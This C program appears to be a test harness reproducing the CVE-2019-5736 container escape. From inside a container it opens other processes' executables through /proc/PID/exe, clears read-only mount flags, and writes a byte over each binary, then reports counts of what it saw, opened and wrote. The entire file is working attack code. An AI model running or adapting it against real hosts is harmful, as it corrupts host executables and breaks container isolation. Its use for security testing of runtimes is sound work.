/* SPDX-License-Identifier: Apache-2.0 */
/* The attacker of CVE-2019-5736: poller FILE... runs inside a container, keeps a handle on the
 * executable of every process it sees that is not one of FILE, each by its mount, and tries again
 * and again to write to it, also by clearing "read-only" of its mount or of a copy of that. Until
 * SIGTERM or a file /stop, then it prints "seen N opened N written N". */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { MAX_HANDLES = 256 };

static struct handle {
	int fd;
	dev_t dev;
	ino_t ino;
	unsigned mount;
} handles[MAX_HANDLES];
static size_t nhandles;
static unsigned long opened, written;

/* From fdinfo: statx cannot tell the mount everywhere. */
static unsigned mount_of(int fd)
{
	char path[64], line[128];
	unsigned id = 0;

	snprintf(path, sizeof(path), "/proc/self/fdinfo/%d", fd);
	FILE *f = fopen(path, "re");

	while (f && fgets(line, sizeof(line), f))
		if (sscanf(line, "mnt_id: %u", &id) == 1)
			break;
	if (f)
		fclose(f);
	return id;
}

static bool is_known(int fd)
{
	struct stat st;

	if (fstat(fd, &st) < 0)
		return true;
	const struct handle new = { fd, st.st_dev, st.st_ino, mount_of(fd) };

	for (size_t i = 0; i < nhandles; i++)
		if (handles[i].dev == new.dev && handles[i].ino == new.ino &&
		    handles[i].mount == new.mount)
			return true;
	if (nhandles == MAX_HANDLES)
		return true;
	handles[nhandles++] = new;
	return false;
}

/* One of the container's own files? By inode: the path that the link shows depends on mounts. */
static bool is_ours(int fd, char **names)
{
	struct stat st, own;

	if (fstat(fd, &st) < 0)
		return true;
	for (; *names; names++)
		if (stat(*names, &own) == 0 && st.st_dev == own.st_dev && st.st_ino == own.st_ino)
			return true;
	return false;
}

static void collect(char **names)
{
	DIR *d = opendir("/proc");

	for (struct dirent *e; d && (e = readdir(d));) {
		char path[300];

		if (e->d_name[0] < '1' || e->d_name[0] > '9')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
		int fd = open(path, O_PATH | O_CLOEXEC);

		if (fd >= 0 && (is_ours(fd, names) || is_known(fd)))
			close(fd);
	}
	if (d)
		closedir(d);
}

static void write_through(const char *path)
{
	static const int modes[] = { O_RDWR, O_WRONLY };

	for (size_t i = 0; i < sizeof(modes) / sizeof(*modes); i++) {
		int fd = open(path, modes[i] | O_CLOEXEC);

		if (fd < 0)
			continue;
		opened++;
		if (pwrite(fd, "\177", 1, 0) == 1) /* what is there anyway: the damage is enough */
			written++;
		close(fd);
	}
}

static void attack(int handle)
{
	struct mount_attr writable = { .attr_clr = MOUNT_ATTR_RDONLY };
	char path[64];

	syscall(SYS_mount_setattr, handle, "", AT_EMPTY_PATH, &writable, sizeof(writable));
	snprintf(path, sizeof(path), "/proc/self/fd/%d", handle);
	write_through(path);

	int copy = (int)syscall(SYS_open_tree, handle, "",
				OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC | AT_EMPTY_PATH);

	if (copy < 0)
		return;
	syscall(SYS_mount_setattr, copy, "", AT_EMPTY_PATH, &writable, sizeof(writable));
	snprintf(path, sizeof(path), "/proc/self/fd/%d", copy);
	write_through(path);
	close(copy);
}

int main(int argc, char **argv)
{
	sigset_t term;

	(void)argc;
	sigemptyset(&term);
	sigaddset(&term, SIGTERM);
	sigprocmask(SIG_BLOCK, &term, NULL);
	printf("ready\n");
	fflush(stdout);
	for (;;) {
		struct timespec now = { 0 };

		if (sigtimedwait(&term, NULL, &now) == SIGTERM || access("/stop", F_OK) == 0)
			break;
		collect(argv + 1);
		for (size_t i = 0; i < nhandles; i++)
			attack(handles[i].fd);
	}
	printf("seen %zu opened %lu written %lu\n", nhandles, opened, written);
	return 0;
}
